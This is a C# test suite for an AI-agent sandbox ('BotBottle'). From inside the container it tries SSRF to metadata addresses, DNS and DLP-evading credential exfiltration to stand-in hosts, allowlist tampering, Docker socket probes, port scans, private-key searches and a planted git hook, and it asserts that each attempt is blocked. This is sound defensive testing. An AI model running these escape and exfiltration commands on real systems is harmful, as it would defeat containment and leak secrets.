using BotBottle.Backends.Docker;
using System.Diagnostics;
using System.Text.RegularExpressions;
using BotBottle.Instances;
using BotBottle.Processes;

namespace BotBottle.Tests.Bottles;

/// <summary>
/// Attacks from inside a real bottle that must fail every time (PRODUCT.md §9, invariants 1–3 and isolation).
/// Written once against <see cref="BottleService"/> and plain shell commands, so every backend runs the same suite:
/// a backend's test class derives from this and supplies <see cref="Home"/>.
/// </summary>
public abstract class SandboxEscapeSuite
{
    protected abstract BottleHome Home { get; }

    /// <summary>
    /// Runs <paramref name="script"/> (bash) from a container that is not bottled — no firewall — on the same network as
    /// <paramref name="bottle"/>'s agent, and returns its standard output: the positive control that shows a probe the
    /// agent fails would succeed without the defence.
    /// </summary>
    protected abstract Task<string> UnbottledProbeAsync(string bottle, string script, CancellationToken ct);

    /// <summary>Addresses of the engine host a bottle's network can send to: its network's gateway, the engine's default bridge, the host's own interfaces.</summary>
    protected abstract Task<IReadOnlyList<string>> HostAddressesAsync(string bottle, CancellationToken ct);

    /// <summary>One line per target: the HTTP status curl got straight (no proxy), or 000 when nothing answered, then the target.</summary>
    private static string ProbeScript(IEnumerable<string> targets) => string.Join("\n", targets.Select(t =>
        $"printf '%s {t}\\n' \"$(curl -sS --noproxy '*' --connect-timeout 4 --max-time 6 -o /dev/null -w '%{{http_code}}' http://{t}/ 2>/dev/null)\""));

    private static Dictionary<string, string> ParseProbe(string output) => output.Split('\n', StringSplitOptions.RemoveEmptyEntries)
        .Select(l => l.Trim().Split(' ', 2)).Where(p => p.Length == 2).ToDictionary(p => p[1], p => p[0]);

    private static CancellationToken Timeout(int seconds = 600) => new CancellationTokenSource(TimeSpan.FromSeconds(seconds)).Token;

    private async Task<string> SharedBottleAsync() => (await Home.SharedBottleAsync(Timeout())).Name;

    private async Task<BottleCommandResult> Sh(string script) => await Home.ShAsync(await SharedBottleAsync(), script, Timeout(120));

    [Fact]
    public async Task Unlisted_hosts_are_refused()
    {
        var r = await Sh("curl -sS --max-time 20 -o /dev/null -w '%{http_code}' https://unlisted.example/ ; echo; curl -sS --max-time 20 -o /dev/null -w '%{http_code}' http://unlisted.example/");
        Assert.Equal("403\n403", r.StandardOutput.Trim());
    }

    [Fact]
    public async Task Ip_literals_are_refused_even_with_a_spoofed_host_header()
    {
        var gateway = (await Sh("getent ahostsv4 sidecar | head -n1 | cut -d' ' -f1")).StandardOutput.Trim();
        Assert.NotEmpty(gateway);
        // Positive control: the same request by name, through the same proxy, is answered by the same upstream.
        var byName = await Sh($"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' {Home.UpstreamUrl("/literal-control")}");
        Assert.Equal("200", byName.StandardOutput.Trim());
        var r = await Sh($$"""
            for u in http://{{gateway}}:{{Home.Upstream.HttpPort}}/ https://{{gateway}}:{{Home.Upstream.HttpsPort}}/ http://1.1.1.1/; do
              curl -sS --max-time 20 -H 'Host: upstream.test' -o /dev/null -w '%{http_code} ' "$u" || echo -n 'FAILED '
            done
            """);
        // Plain http literals get the proxy's 403; a CONNECT to a literal is refused before TLS (curl: 000 and exit 56).
        Assert.Equal(["403", "000", "FAILED", "403"], r.StandardOutput.Split(' ', StringSplitOptions.RemoveEmptyEntries));
        Assert.DoesNotContain(Home.Upstream.Received, x => x.Path == "/" && x.Headers.GetValueOrDefault("Host", "").StartsWith("upstream.test", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("169.254.169.254")]
    [InlineData("2852039166")]
    [InlineData("0xA9FEA9FE")]
    [InlineData("0251.0376.0251.0376")]
    [InlineData("[::ffff:169.254.169.254]")]
    [InlineData("127.0.0.1")]
    [InlineData("127.1")]
    [InlineData("0x7f.1")]
    [InlineData("[::1]")]
    [InlineData("10.0.0.1")]
    [InlineData("192.168.0.1")]
    [InlineData("localhost")]
    public async Task Private_loopback_and_metadata_addresses_are_unreachable_in_every_spelling(string host)
    {
        // Through the proxy (forced, even for names NO_PROXY would keep inside the bottle): refused, as an IP
        // literal or a name with no route. Without it: nothing answers (no route out; the bottle's own loopback is empty).
        var viaProxy = await Sh($"curl -sS --max-time 20 --proxy http://sidecar:3128 --noproxy '' -o /dev/null -w '%{{http_code}}' 'http://{host}/latest/meta-data/'");
        Assert.Equal("403", viaProxy.StandardOutput.Trim());
        var direct = await Sh($"curl -sS --noproxy '*' --max-time 3 -o /dev/null -w '%{{http_code}}' 'http://{host}/latest/meta-data/' || true");
        Assert.DoesNotMatch("^[1-5][0-9][0-9]$", direct.StandardOutput.Trim());
    }

    [Fact]
    public async Task Outside_names_do_not_resolve_and_no_dns_query_leaves_the_bottle()
    {
        if (!OperatingSystem.IsLinux() || ExecutableLocator.Find("tcpdump") is null)
        {
            Assert.Fail("This check watches DNS on the host with tcpdump; install it (apt-get install tcpdump). CI installs it.");
        }

        var slug = await SharedBottleAsync();
        var sidecar = Home.Services.Bottles.Store.Load(slug).Runtime.SidecarAddress;
        var gateway = (await HostAddressesAsync(slug, Timeout(60)))[0];
        var run = Guid.NewGuid().ToString("N")[..12];
        var canary = $"bb-canary-{run}";   // asked of the bottle's resolver: must be seen, and only at the sidecar
        var udp = $"bb-udp-{run}";         // written straight to port 53 of outside addresses: must never be seen
        var end = $"bb-end-{run}";         // the last query: once it is captured, everything before it is too
        using var tcpdump = Process.Start(new ProcessStartInfo("tcpdump", ["-i", "any", "-n", "-l", "-s", "0", "-A", "udp port 53 or tcp port 53"])
        {
            RedirectStandardOutput = true,
            RedirectStandardError = true,
            UseShellExecute = false,
        })!;
        var lines = new List<string>();
        var errors = new List<string>();
        var listening = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var sawEnd = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var stdout = Task.Run(async () =>
        {
            while (await tcpdump.StandardOutput.ReadLineAsync() is { } line)
            {
                lock (lines)
                {
                    lines.Add(line);
                }

                if (line.Contains(end, StringComparison.Ordinal))
                {
                    sawEnd.TrySetResult();
                }
            }

            sawEnd.TrySetResult();
        });
        var stderr = Task.Run(async () =>
        {
            while (await tcpdump.StandardError.ReadLineAsync() is { } line)
            {
                lock (errors)
                {
                    errors.Add(line);
                }

                if (line.StartsWith("listening on", StringComparison.Ordinal))
                {
                    listening.TrySetResult();
                }
            }

            listening.TrySetResult();
        });

        BottleCommandResult r;
        try
        {
            // tcpdump says when it captures; until then nothing is sent (no sleep stands in for that).
            await listening.Task.WaitAsync(Timeout(120));
            Assert.False(tcpdump.HasExited, "tcpdump stopped before capturing: " + string.Join("\n", errors));
            r = await Sh($"""
                getent hosts {canary}.example.com && echo RESOLVED || echo UNRESOLVED
                getent hosts example.com && echo RESOLVED || echo UNRESOLVED
                for a in 8.8.8.8 {gateway}; do (printf '{DnsQuery(udp + ".example.com")}' > /dev/udp/$a/53) 2>/dev/null && echo "UDP-SENT $a" || echo "UDP-REFUSED $a"; done
                getent hosts {end}.example.com >/dev/null; echo done
                """);
            await sawEnd.Task.WaitAsync(Timeout(120));
            Assert.False(tcpdump.HasExited, "tcpdump stopped during the capture: " + string.Join("\n", errors));
        }
        finally
        {
            tcpdump.Kill();
            await tcpdump.WaitForExitAsync();
            await stdout;
            await stderr;
        }

        var output = r.StandardOutput.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(["UNRESOLVED", "UNRESOLVED"], output.Where(l => l.Contains("RESOLVED", StringComparison.Ordinal)));
        Assert.Contains("UDP-REFUSED 8.8.8.8", output); // no route to an outside resolver at all
        Assert.Contains(output, l => l.EndsWith(" " + gateway, StringComparison.Ordinal) && l.StartsWith("UDP-", StringComparison.Ordinal));
        Assert.Equal("done", output[^1]);

        string[] snapshot;
        lock (lines)
        {
            snapshot = [.. lines];
        }

        // Positive control: the capture saw the bottle's query for the canary (it reaches its own sidecar). Every
        // packet carrying it goes to or from that sidecar — never further; the raw UDP queries were never seen at all.
        var canaryCarriers = Carriers(snapshot, canary);
        Assert.True(canaryCarriers.Count > 0, $"control: tcpdump never saw the bottle's query for {canary} to its sidecar, so it could not have seen a leak ({snapshot.Length} lines; stderr: {string.Join(" | ", errors)})");
        foreach (var (src, dst, header) in canaryCarriers)
        {
            Assert.True(dst == sidecar || src == sidecar, $"a DNS query for the canary left the bottle: {header}");
        }

        Assert.Empty(Carriers(snapshot, udp).Select(c => c.Header));
    }

    /// <summary>The packets (source, destination, tcpdump header line) whose printed payload contains <paramref name="label"/>.</summary>
    private static List<(string Src, string Dst, string Header)> Carriers(IEnumerable<string> tcpdumpLines, string label)
    {
        var headerOf = new Regex(@" IP6? (?<src>[0-9a-f:.]+)\.\d+ > (?<dst>[0-9a-f:.]+)\.\d+:");
        Match? current = null;
        string? currentLine = null;
        var carriers = new List<(string, string, string)>();
        foreach (var line in tcpdumpLines)
        {
            var m = headerOf.Match(line);
            if (m.Success)
            {
                (current, currentLine) = (m, line);
            }

            if (line.Contains(label, StringComparison.Ordinal) && current is not null)
            {
                carriers.Add((current.Groups["src"].Value, current.Groups["dst"].Value, currentLine!));
            }
        }

        return carriers;
    }

    /// <summary>A DNS query message for <paramref name="name"/> (type A, class IN; RFC 1035 §4.1) as a printf escape string.</summary>
    private static string DnsQuery(string name)
    {
        var bytes = new List<byte> { 0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00 };
        foreach (var label in name.Split('.'))
        {
            bytes.Add((byte)label.Length);
            bytes.AddRange(System.Text.Encoding.ASCII.GetBytes(label));
        }

        bytes.AddRange([0x00, 0x00, 0x01, 0x00, 0x01]);
        return string.Concat(bytes.Select(b => $"\\x{b:x2}"));
    }

    [Fact]
    public async Task The_sidecars_state_and_admin_surface_are_out_of_reach()
    {
        // No state folder, no routes file, nothing but the documented ports on the sidecar.
        var r = await Sh("ls /state 2>&1 | head -n1; for p in 22 80 443 2375 2376 3128 8080 8750 8751 9090; do timeout 3 bash -c \"exec 3<>/dev/tcp/sidecar/$p\" 2>/dev/null && echo open:$p; done; true");
        Assert.Contains("No such file or directory", r.StandardOutput, StringComparison.Ordinal);
        var open = r.StandardOutput.Split('\n').Where(l => l.StartsWith("open:", StringComparison.Ordinal)).Select(l => int.Parse(l[5..], System.Globalization.CultureInfo.InvariantCulture)).ToList();
        Assert.All(open, p => Assert.Contains(p, new[] { 3128, 8750, 8751 }));

        // The proxy's own endpoint is read-only; nothing the agent sends changes policy.
        var post = await Sh("curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -X POST --data 'routes: [{host: evil.example}]' http://_egress.local/allowlist; echo; curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://evil.example/");
        Assert.Equal("404\n403", post.StandardOutput.Trim());
    }

    /// <summary>
    /// Exfiltration from inside the bottle with the tools an agent has (curl, gzip, base64), through the real sidecar,
    /// to routes whose <c>dlp.outbound_on_match</c> is <c>block</c> (<c>dlp.test</c>, <c>*.wild.test</c>): a
    /// credential in a JSON body, a header, a multipart part, a base64 query, a known secret base64-encoded, a gzip
    /// body, a body gzip-encoded twice, a zstd body (RFC 8878, made on the host: the bottle has no zstd tool), a
    /// chunked upload whose chunks split the key, plain HTTP, and hex data in a wildcard route's host name (a CONNECT
    /// target). Each must get the proxy's 403 with reason <c>Dlp</c> and never reach the upstream; DNS-over-HTTPS queries
    /// get 403 <c>DnsOverHttps</c>. Positive controls
    /// over the same routes, encodings and tunnel show that the DLP verdict, not a broken path, is what stops them.
    /// </summary>
    [Fact]
    public async Task Credentials_sent_out_of_the_bottle_in_any_shape_are_blocked_by_dlp_and_never_reach_the_upstream()
    {
        const string Key = "AKIAQ2W3E4R5T6Y7U2I3"; // a synthetic AWS access key id shape, not a real key
        var https = $"https://dlp.test:{Home.Upstream.HttpsPort}";
        var zstd = Convert.ToBase64String(new ZstdSharp.Compressor(3).Wrap(System.Text.Encoding.UTF8.GetBytes($$"""{"aws":"{{Key}}"}""")).ToArray());
        var zstdControl = Convert.ToBase64String(new ZstdSharp.Compressor(3).Wrap("{\"note\":\"zstd control\"}"u8).ToArray());
        var known = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(BottleHome.ApiSecret));
        const string HexHost = "4157535f5345435245543d6b3046356468534a7658"; // hex of "AWS_SECRET=k0F5dhSJvX"

        // One line per case: name, status, the X-BotBottle-Reason header (or '-'). For a refused CONNECT curl reports
        // the tunnel's status in %{http_connect}; the header dump holds the proxy's answer either way.
        var r = await Sh($$"""
            c() {
              n=$1; shift
              s=$(curl -sS --max-time 30 -D /tmp/dlp-h -o /dev/null -w '%{http_code} %{http_connect}' "$@" 2>/dev/null)
              reason=$(tr -d '\r' < /tmp/dlp-h | grep -i '^x-botbottle-reason:' | head -n1 | cut -d' ' -f2)
              echo "$n $s ${reason:--}"
            }
            printf '{"aws":"%s"}' '{{Key}}' > /tmp/dlp-body
            gzip -c /tmp/dlp-body > /tmp/dlp-body.gz; gzip -c /tmp/dlp-body.gz > /tmp/dlp-body.gz.gz
            printf '%s' '{{zstd}}' | base64 -d > /tmp/dlp-body.zst
            printf '%s' '{{zstdControl}}' | base64 -d > /tmp/dlp-control.zst
            printf 'aws_secret_access_key = %s\n' 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ2w3E4r5T' > /tmp/dlp-creds.txt
            printf '{"note":"an ordinary body"}' | gzip -c > /tmp/dlp-control.gz
            c json -H 'Content-Type: application/json' --data-binary @/tmp/dlp-body {{https}}/dlp/json
            c header -H 'X-Api-Key: {{Key}}' {{https}}/dlp/header
            c multipart -F 'upload=@/tmp/dlp-creds.txt;type=text/plain' {{https}}/dlp/multipart
            c b64query "{{https}}/dlp/b64query?d=$(printf 'id=%s' '{{Key}}' | base64 -w0 | sed 's/=/%3D/g')"
            c known --data-binary "t=$(printf '%s' '{{known}}')" {{https}}/dlp/known
            c gzip -H 'Content-Encoding: gzip' -H 'Content-Type: application/json' --data-binary @/tmp/dlp-body.gz {{https}}/dlp/gzip
            c gzip2 -H 'Content-Encoding: gzip, gzip' --data-binary @/tmp/dlp-body.gz.gz {{https}}/dlp/gzip2
            c zstd -H 'Content-Encoding: zstd' -H 'Content-Type: application/json' --data-binary @/tmp/dlp-body.zst {{https}}/dlp/zstd
            # Two writes with a pause so curl sends (at least) two chunks that split the key; the verdict must not depend on it.
            c chunked -X POST -H 'Transfer-Encoding: chunked' -T - {{https}}/dlp/chunked < <(printf 'note AKIAQ2W3E4'; sleep 0.3; printf 'R5T6Y7U2I3 end')
            c plain --data-binary @/tmp/dlp-body http://dlp.test:{{Home.Upstream.HttpPort}}/dlp/plain
            c host https://{{HexHost}}.wild.test:{{Home.Upstream.HttpsPort}}/dlp/host
            c doh -H 'Accept: application/dns-json' "{{https}}/resolve?name=example.com&type=A"
            c doh-get "{{https}}/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"
            c method -X '{{Key}}' {{https}}/dlp/method
            c method-plain -X '{{Key}}' http://dlp.test:{{Home.Upstream.HttpPort}}/dlp/method-plain
            c control --data-binary '{"note":"an ordinary body"}' {{https}}/dlp/control
            c control-propfind -X PROPFIND {{https}}/dlp/control-propfind
            c control-gzip -H 'Content-Encoding: gzip' --data-binary @/tmp/dlp-control.gz {{https}}/dlp/control-gzip
            c control-zstd -H 'Content-Encoding: zstd' --data-binary @/tmp/dlp-control.zst {{https}}/dlp/control-zstd
            c control-host https://ok.wild.test:{{Home.Upstream.HttpsPort}}/dlp/control-host
            rm -f /tmp/dlp-*
            """);
        var lines = r.StandardOutput.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.Split(' ')).ToDictionary(p => p[0], p => p[1..]);
        var attacks = new[] { "json", "header", "multipart", "b64query", "known", "gzip", "gzip2", "zstd", "chunked", "plain" };
        foreach (var name in attacks)
        {
            Assert.True(lines.TryGetValue(name, out var got) && got[0] == "403" && got[2] == "Dlp", $"{name}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}{r.StandardError}");
        }

        // DNS-over-HTTPS (RFC 8484 and the JSON API) is refused by policy on any route (PRODUCT.md §1.1).
        foreach (var name in new[] { "doh", "doh-get" })
        {
            Assert.True(lines.TryGetValue(name, out var got) && got[0] == "403" && got[2] == "DnsOverHttps", $"{name}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}");
        }

        // Red team 11: the method is the agent's to choose and DLP does not read the request line; a method outside the
        // IANA registry is refused by policy (control-propfind: a registered one that is not GET/POST passes).
        foreach (var name in new[] { "method", "method-plain" })
        {
            Assert.True(lines.TryGetValue(name, out var got) && got[0] == "403" && got[2] == "UnregisteredMethod", $"{name}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}");
        }

        // The data-bearing host name is refused at CONNECT, before any TLS or upstream contact.
        Assert.True(lines.TryGetValue("host", out var host) && host[1] == "403" && host[2] == "Dlp", $"host: {string.Join(' ', host ?? ["(no line)"])}\n{r.StandardOutput}");

        foreach (var control in new[] { "control", "control-gzip", "control-zstd", "control-host", "control-propfind" })
        {
            Assert.True(lines.TryGetValue(control, out var got) && got[0] == "200", $"{control}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}{r.StandardError}");
        }

        // The controls arrived (encoded bodies forwarded decoded); no attack did.
        Assert.Equal("{\"note\":\"an ordinary body\"}", Home.Upstream.Last("/dlp/control-gzip").BodyText);
        Assert.Equal("{\"note\":\"zstd control\"}", Home.Upstream.Last("/dlp/control-zstd").BodyText);
        var reached = Home.Upstream.Received.Select(q => q.Path).Where(p => (p.StartsWith("/dlp/", StringComparison.Ordinal) && !p.StartsWith("/dlp/control", StringComparison.Ordinal)) || p is "/resolve" or "/dns-query").ToList();
        Assert.Empty(reached);
    }

    [Fact]
    public async Task The_ca_key_and_planted_secrets_are_nowhere_in_the_bottle()
    {
        // The secret is never written into the script (a command line the scan would then find): it arrives
        // base64-encoded and is turned into a pattern file with bash builtins only.
        var b64 = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(BottleHome.ApiSecret));
        // Every file system is searched (no -xdev: a bind mount is exactly where a leaked key would be), for key file
        // names, PEM private keys and DER ones (a PKCS#8/SEC1 key parses with openssl pkey). Positive control: one
        // PEM and one DER key planted first are found, and nothing else is.
        var r = await Sh($"""
            mkdir -p /dev/shm/bb /tmp/bbplant && printf '%s' "$(printf '%s' '{b64}' | base64 -d)" > /dev/shm/bb/p;
            openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out /tmp/bbplant/planted.pem 2>/dev/null;
            openssl pkey -in /tmp/bbplant/planted.pem -outform DER -out /tmp/bbplant/planted.bin 2>/dev/null;
            find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f \( -name 'ca.key' -o -name '*.key' -o -name '*.der' -o -name '*.p8' -o -name '*.pk8' -o -name '*.p12' -o -name '*.pfx' \) -print 2>/dev/null | sed 's/^/name:/';
            grep -rIl --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -e 'BEGIN PRIVATE KEY' -e 'BEGIN EC PRIVATE KEY' -e 'BEGIN RSA PRIVATE KEY' -e 'BEGIN OPENSSH PRIVATE KEY' / 2>/dev/null | sed 's/^/pem:/';
            find / \( -path /proc -o -path /sys -o -path /dev -o -path /usr/lib -o -path /usr/share -o -path /usr/bin -o -path /usr/sbin -o -path /usr/libexec -o -path /var/lib/dpkg -o -path /var/cache \) -prune -o -type f -size -8k -print 2>/dev/null \
              | while read -r f; do openssl pkey -inform DER -in "$f" -noout 2>/dev/null && echo "der:$f"; done;
            grep -rIlF -f /dev/shm/bb/p --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev / 2>/dev/null | sed 's/^/secret:/';
            cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -cF -f /dev/shm/bb/p || true;
            printenv | grep -cF -f /dev/shm/bb/p || true;
            rm -rf /tmp/bbplant
            """);
        Assert.Equal("pem:/tmp/bbplant/planted.pem\nder:/tmp/bbplant/planted.bin\n0\n0", r.StandardOutput.Trim());
    }

    [Fact]
    public async Task The_engine_socket_and_host_daemons_are_unreachable()
    {
        const string socketProbe = "curl -sS --max-time 5 --unix-socket /var/run/docker.sock http://x/_ping 2>/dev/null && echo ENGINE || echo no-engine";

        // Positive control: the same probe on the host, where the engine socket is, reaches the engine.
        var onHost = await ProcessRunner.Default.RunAsync(new ProcessSpec("bash", ["-c", socketProbe]), cancellationToken: Timeout(60));
        Assert.True(onHost.StandardOutput.EndsWith("ENGINE\n", StringComparison.Ordinal), $"control: the socket probe does not reach the engine on the host ({onHost.StandardOutput}{onHost.StandardError})");

        // A daemon listening on the host (the test upstream at 0.0.0.0) on the engine's default bridge: an unbottled
        // container reaches it (control), the agent does not — as it would not reach an engine's TCP port there.
        var mine = await SharedBottleAsync();
        var bridge = (await HostAddressesAsync(mine, Timeout(60))).First(a => a.StartsWith("172.17.", StringComparison.Ordinal));
        var target = $"{bridge}:{Home.Upstream.HttpPort}";
        Assert.NotEqual("000", ParseProbe(await UnbottledProbeAsync(mine, ProbeScript([target]), Timeout(120))).GetValueOrDefault(target, "000"));

        var r = await Sh($$"""
            ls /var/run/docker.sock /run/docker.sock 2>/dev/null; echo sockets-checked;
            {{socketProbe}};
            for h in {{bridge}} host.docker.internal; do curl -sS --noproxy '*' --connect-timeout 3 --max-time 3 http://$h:{{Home.Upstream.HttpPort}}/_ping >/dev/null 2>&1 && echo "REACHED $h"; done; echo done
            """);
        Assert.Equal("sockets-checked\nno-engine\ndone\n", r.StandardOutput);
    }

    [Fact]
    public async Task The_agent_has_no_privileges_to_escalate_with()
    {
        var r = await Sh("grep -E '^(CapEff|CapPrm|NoNewPrivs):' /proc/self/status | tr -s '\t' ' '; id -u");
        Assert.Contains("CapEff: 0000000000000000", r.StandardOutput, StringComparison.Ordinal);
        Assert.Contains("NoNewPrivs: 1", r.StandardOutput, StringComparison.Ordinal);
        Assert.DoesNotMatch(@"(?m)^0$", r.StandardOutput);
    }

    [Fact]
    public async Task At_the_ip_layer_the_agent_reaches_the_sidecar_and_nothing_else_not_even_the_host()
    {
        // Real listeners: the test upstream on the host at 0.0.0.0 (reached through every host address), and the
        // second bottle's sidecar proxy.
        var mine = await SharedBottleAsync();
        var other = (await Home.StartAsync(ct: Timeout())).Name;
        var hostTargets = (await HostAddressesAsync(mine, Timeout(60))).Concat(await HostAddressesAsync(other, Timeout(60)))
            .Distinct().Select(a => $"{a}:{Home.Upstream.HttpPort}").ToList();
        var otherSidecar = $"{Home.Services.Bottles.Store.Load(other).Runtime.SidecarAddress}:3128";
        Assert.Contains(hostTargets, t => t.StartsWith("172.17.0.1:", StringComparison.Ordinal));

        // Positive controls: without the defence every target answers.
        var control = ParseProbe(await UnbottledProbeAsync(mine, ProbeScript(hostTargets), Timeout(120)));
        var otherControl = ParseProbe(await UnbottledProbeAsync(other, ProbeScript([otherSidecar]), Timeout(120)));
        Assert.All(hostTargets, t => Assert.True(control.GetValueOrDefault(t, "000") != "000", $"control: {t} did not answer an unbottled container, so this test could not see a leak"));
        Assert.NotEqual("000", otherControl.GetValueOrDefault(otherSidecar, "000"));

        // The agent: nothing answers, and its own sidecar still does (through the proxy and directly on its port).
        var agent = ParseProbe((await Sh(ProbeScript([.. hostTargets, otherSidecar]))).StandardOutput);
        Assert.All(hostTargets.Append(otherSidecar), t => Assert.Equal("000", agent.GetValueOrDefault(t, "missing")));
        var own = await Sh($"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' {Home.UpstreamUrl("/ip-layer-control")}");
        Assert.Equal("200", own.StandardOutput.Trim());

        // The agent cannot undo it: no process in the container, root included, can ever hold CAP_NET_ADMIN.
        var root = await Home.Services.Bottles.ExecAsync(mine, new Backends.BottleExecRequest { Command = ["bash", "-c", "grep -E '^(CapBnd|CapEff):' /proc/self/status | tr -s '\t' ' '; id -u"], AsRoot = true }, null, Timeout(60));
        Assert.Equal("CapEff: 0000000000000000\nCapBnd: 0000000000000000\n0\n", root.StandardOutput);
    }

    [Fact]
    public async Task Nothing_the_agent_writes_reaches_a_host_folder()
    {
        // The attack of issue 15 item 3: a hook and a config change in the project's .git, run on the host at the
        // user's next git command. The writes succeed inside (control); the host's repository never changes.
        var hooks = Path.Combine(Home.ProjectDirectory, ".git", "hooks");
        var config = File.ReadAllText(Path.Combine(Home.ProjectDirectory, ".git", "config"));
        var r = await Sh("""
            mkdir -p /workspace/.git/hooks && printf '#!/bin/sh\ntouch /tmp/pwned\n' > /workspace/.git/hooks/post-checkout && chmod +x /workspace/.git/hooks/post-checkout
            printf '[core]\n\tfsmonitor = /tmp/evil\n' >> /workspace/.git/config
            test -x /workspace/.git/hooks/post-checkout && echo written
            awk '$5 == "/workspace" || index($5, "/workspace/") == 1 { print "mounted " $5 }' /proc/self/mountinfo
            """);
        Assert.Equal("written\n", r.StandardOutput);
        Assert.False(File.Exists(Path.Combine(hooks, "post-checkout")), "the agent wrote a hook into the host's repository");
        Assert.Equal(config, File.ReadAllText(Path.Combine(Home.ProjectDirectory, ".git", "config")));
        Assert.DoesNotContain(Directory.EnumerateFileSystemEntries(Home.Root, "*", SearchOption.AllDirectories), f => f.EndsWith("post-checkout", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Another_bottle_cannot_be_reached()
    {
        var mine = await SharedBottleAsync();
        var other = await Home.StartAsync(ct: Timeout());
        var record = Home.Services.Bottles.Store.Load(other.Name);

        // Listeners to aim at: git daemon in the other bottle's agent (every address, 9418) and its sidecar's
        // proxy (3128). Control: the daemon listens, and an unbottled container on that bottle's network reaches
        // the sidecar's port.
        var listen = await Home.ShAsync(other.Name, "git daemon --reuseaddr --listen=0.0.0.0 --port=9418 --base-path=/tmp --detach && for i in $(seq 1 100); do grep -q ':24CA 00000000:0000 0A' /proc/net/tcp && echo LISTENING && break; sleep 0.1; done", Timeout(60));
        Assert.Equal("LISTENING\n", listen.StandardOutput);
        var otherSidecar = $"{record.Runtime.SidecarAddress}:3128";
        Assert.NotEqual("000", ParseProbe(await UnbottledProbeAsync(other.Name, ProbeScript([otherSidecar]), Timeout(120))).GetValueOrDefault(otherSidecar, "000"));

        var r = await Home.ShAsync(mine, $$"""
            for a in {{record.Runtime.AgentAddress}} {{record.Runtime.SidecarAddress}}; do
              for p in 22 3128 8750 9418; do timeout 3 bash -c "exec 3<>/dev/tcp/$a/$p" 2>/dev/null && echo "OPEN $a:$p"; done
            done
            curl -sS --max-time 10 -o /dev/null -w '%{http_code}' http://{{record.Runtime.AgentAddress}}/; echo
            """, Timeout(120));
        Assert.DoesNotContain("OPEN", r.StandardOutput, StringComparison.Ordinal);
        Assert.EndsWith("403", r.StandardOutput.Trim(), StringComparison.Ordinal);
    }
}

[Collection(BottleCollection.Name)]
public class DockerSandboxEscapeTests(BottleHome home) : SandboxEscapeSuite
{
    protected override BottleHome Home => home;

    protected override async Task<string> UnbottledProbeAsync(string bottle, string script, CancellationToken ct)
    {
        var record = home.Services.Bottles.Store.Load(bottle);
        var name = $"bb-test-unbottled-{Guid.NewGuid():N}"[..32];
        var id = await home.Engine.CreateContainerAsync(name, new global::Docker.DotNet.Models.CreateContainerParameters
        {
            Image = record.Runtime.AgentImage!,
            Entrypoint = ["bash", "-c", script],
            Labels = new Dictionary<string, string> { ["dev.botbottle.test"] = "unbottled-control", [DockerDefaults.SlugLabel] = bottle },
            HostConfig = new global::Docker.DotNet.Models.HostConfig { NetworkMode = DockerBackend.InternalNetworkName(bottle) },
        }, ct);
        try
        {
            await home.Engine.StartContainerAsync(id, ct);
            await home.Engine.WaitContainerAsync(id, ct);
            return await home.Engine.GetContainerLogsAsync(id, 1000, ct);
        }
        finally
        {
            await home.Engine.RemoveContainerAsync(id, force: true, removeVolumes: true, ignoreMissing: true, CancellationToken.None);
        }
    }

    protected override async Task<IReadOnlyList<string>> HostAddressesAsync(string bottle, CancellationToken ct)
    {
        var network = await home.Engine.InspectNetworkAsync(DockerBackend.InternalNetworkName(bottle), ct);
        var config = network?.IPAM?.Config?.FirstOrDefault();
        var gateway = config?.Gateway;
        if (string.IsNullOrEmpty(gateway) && config?.Subnet is { } subnet)
        {
            // The engine gives the bridge the subnet's first address when the network names no gateway.
            var b = System.Net.IPAddress.Parse(subnet.Split('/')[0]).GetAddressBytes();
            b[3]++;
            gateway = new System.Net.IPAddress(b).ToString();
        }

        Assert.False(string.IsNullOrEmpty(gateway), "the bottle's internal network has no gateway address on the host");

        // The host's own interfaces other than bridges of other networks: docker0 and the uplink(s).
        var own = System.Net.NetworkInformation.NetworkInterface.GetAllNetworkInterfaces()
            .Where(n => n.NetworkInterfaceType != System.Net.NetworkInformation.NetworkInterfaceType.Loopback
                && !n.Name.StartsWith("br-", StringComparison.Ordinal) && !n.Name.StartsWith("veth", StringComparison.Ordinal))
            .SelectMany(n => n.GetIPProperties().UnicastAddresses)
            .Where(a => a.Address.AddressFamily == System.Net.Sockets.AddressFamily.InterNetwork)
            .Select(a => a.Address.ToString());
        return [gateway!, .. own];
    }
}
